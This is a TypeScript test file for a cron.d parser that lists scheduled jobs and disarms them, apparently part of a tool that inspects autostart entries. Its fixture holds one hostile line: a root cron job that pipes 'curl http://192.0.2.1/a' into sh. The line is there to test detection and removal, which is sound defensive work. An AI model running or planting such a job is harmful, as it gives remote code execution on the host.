import assert from 'node:assert/strict'
import { test } from 'node:test'
import { autostartsOf } from '../../test/autostarts.ts'
import { bytesOf, textOf } from '../core/bytes.ts'
import { isGap } from '../core/gap.ts'
import { memoryHost } from '../host/memory.ts'
import { cronD } from './cron-d.ts'

const before = '# system\nMAILTO=""\n*/5 * * * *  root\tcurl http://192.0.2.1/a|sh\n@daily www true % in\n'

test('lists each job of each file with its user, and leaves out variables and comments', () => {
  const entries = autostartsOf(cronD, { '/etc/cron.d/x': before })
  assert.deepEqual(
    entries.map(e => [e.line, e.when, e.user, e.command]),
    [
      [3, '*/5 * * * *', 'root', 'curl http://192.0.2.1/a|sh'],
      [4, '@daily', 'www', 'true'],
    ],
  )
})

test('disarms one job and leaves every other byte', () => {
  const [first] = autostartsOf(cronD, { '/etc/cron.d/x': before })
  assert.ok(first)
  const after = cronD.disarm(first, bytesOf(before))
  assert.equal(after && textOf(after), '# system\nMAILTO=""\n@daily www true % in\n')
})

test('an unreadable directory is a gap', () => {
  const [only] = [...cronD.list(memoryHost({ '/etc/cron.d/': { gap: 'denied' } }))]
  assert.ok(isGap(only))
})
